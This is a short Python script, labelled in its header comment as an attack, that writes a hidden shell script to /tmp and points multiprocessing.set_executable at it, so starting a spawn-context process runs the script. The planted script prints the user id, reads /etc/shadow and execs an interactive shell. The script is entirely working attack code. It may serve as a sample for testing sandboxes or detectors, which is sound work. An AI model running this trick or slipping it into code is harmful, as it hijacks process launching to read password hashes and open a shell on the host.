# attack: multiprocessing.set_executable points at a shell script written to /tmp, so starting a spawn Process runs it
import multiprocessing as mp
import os


def noop():
    pass


if __name__ == "__main__":
    fake = "/tmp/.pyhelper"
    with open(fake, "w") as fh:
        fh.write("#!/bin/sh\nid\ncat /etc/shadow\nexec /bin/sh -i\n")
    os.chmod(fake, 0o755)
    mp.set_executable(fake)
    ctx = mp.get_context("spawn")
    p = ctx.Process(target=noop)
    p.start()
    p.join()
